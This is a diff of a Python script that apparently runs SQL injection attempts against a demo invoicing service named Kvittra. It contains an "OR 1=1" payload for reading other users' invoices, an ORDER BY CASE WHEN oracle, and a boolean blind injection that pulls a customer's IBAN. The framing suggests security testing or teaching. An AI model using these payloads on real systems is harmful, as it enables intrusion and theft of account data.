@@ -107,7 +107,9 @@ def others_invoices(service: Kvittra) -> Attempt:
     typed = "%' OR 1=1 --"
     numbers = set(Visitor(service, "otto").numbers(q=typed))
     own = set(Visitor(service, "otto").numbers())
-    return Attempt("others' invoices", typed, tuple(str(one) for one in sorted(numbers - own)))
+    return Attempt(
+        "others' invoices", typed, tuple(f"invoice {one}" for one in sorted(numbers - own))
+    )
 
 
 def password_records(service: Kvittra) -> Attempt:
@@ -122,10 +124,10 @@ def password_records(service: Kvittra) -> Attempt:
 def order_by(service: Kvittra) -> Attempt:
     """As Otto, read a secret from the order of his own invoices: sorted up means yes."""
     otto = Visitor(service, "otto")
-    typed = "CASE WHEN {} THEN number ELSE -number END"
+    typed = "CASE WHEN … THEN number ELSE -number END"
 
     def ask(condition: str) -> bool:
-        numbers = otto.numbers(sort=typed.format(condition))
+        numbers = otto.numbers(sort=typed.replace("…", condition))
         return len(numbers) > 1 and numbers == sorted(numbers)
 
     secret = "(SELECT substr(iban, 1, 4) FROM customers WHERE id = 'korklang')"
@@ -136,10 +138,12 @@ def order_by(service: Kvittra) -> Attempt:
 def blind(service: Kvittra) -> Attempt:
     """As Otto, read the choir's bank account from a page that says yes or no."""
     otto = Visitor(service, "otto")
-    typed = "' OR ({}) --"
+    typed = "' OR (…) --"
 
     def ask(condition: str) -> bool:
-        return "Yes, it is taken" in otto.get("/invoices/number", number=typed.format(condition))
+        return "Yes, it is taken" in otto.get(
+            "/invoices/number", number=typed.replace("…", condition)
+        )
 
     read = extract(ask, "(SELECT iban FROM customers WHERE id = 'korklang')")
     return Attempt("blind", typed, _plausible(read.text, 12), read.questions)
